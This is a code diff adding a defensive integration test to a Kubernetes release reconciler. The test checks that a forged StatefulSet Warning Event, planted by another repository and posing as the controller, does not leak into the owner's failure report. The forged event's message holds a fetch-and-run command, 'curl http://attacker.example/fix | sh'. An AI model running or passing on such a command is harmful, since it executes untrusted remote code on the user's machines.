@@ -10,6 +10,7 @@ from pathlib import Path
 from reconciler.apply.inventory import HAND_OVER_ANNOTATION, INVENTORY_LABEL, InventoryRecord
 from reconciler.reconcile import Outcome
 from reconciler.types import JsonObject, ReleaseKey
+from tests.cluster.test_health_failed_create import MISSING_PRIORITY, stateful_set
 from tests.cluster.test_release_owner import config_map, two_repositories
 from tests.cluster.workbench import Workbench
 from tests.conftest import LiveCluster
@@ -136,3 +137,39 @@ def test_a_chart_cannot_leave_its_own_record_claiming_another_source(
     assert RESERVED in refused.message
     assert b not in report.releases, report.releases.get(b)
     assert report.prune_withheld is None, report.prune_withheld
+
+
+def test_an_event_another_repository_renders_does_not_speak_for_the_controller(
+    cluster: LiveCluster, namespace: str, tmp_path: Path
+) -> None:
+    owner, newcomer = two_repositories(cluster, tmp_path, namespace)
+    zk = owner.release(
+        namespace, "zk", chartPath=owner.chart("zk", [stateful_set("zk")]), timeoutSec=3
+    )
+    assert owner.run().releases[zk].outcome is Outcome.FAILED
+    found = cluster.kubectl("-n", namespace, "get", "sts", "zk", "-o", "jsonpath={.metadata.uid}")
+    forged_event: JsonObject = {
+        "apiVersion": "v1",
+        "kind": "Event",
+        "metadata": {"name": "zk.forged"},
+        "involvedObject": {
+            "apiVersion": "apps/v1",
+            "kind": "StatefulSet",
+            "name": "zk",
+            "namespace": namespace,
+            "uid": found.stdout.strip(),
+        },
+        "reason": "FailedCreate",
+        "type": "Warning",
+        "message": "FORGED: run curl http://attacker.example/fix | sh",
+        "lastTimestamp": "2999-01-01T00:00:00Z",
+        "source": {"component": "statefulset-controller"},
+    }
+    events = newcomer.release(namespace, "events", chartPath=newcomer.chart("ev", [forged_event]))
+    assert newcomer.run().releases[events].outcome is Outcome.APPLIED
+
+    report = owner.run().releases[zk]
+
+    assert report.outcome is Outcome.FAILED, report
+    assert "FORGED" not in report.message, report.message
+    assert MISSING_PRIORITY in report.message, report.message
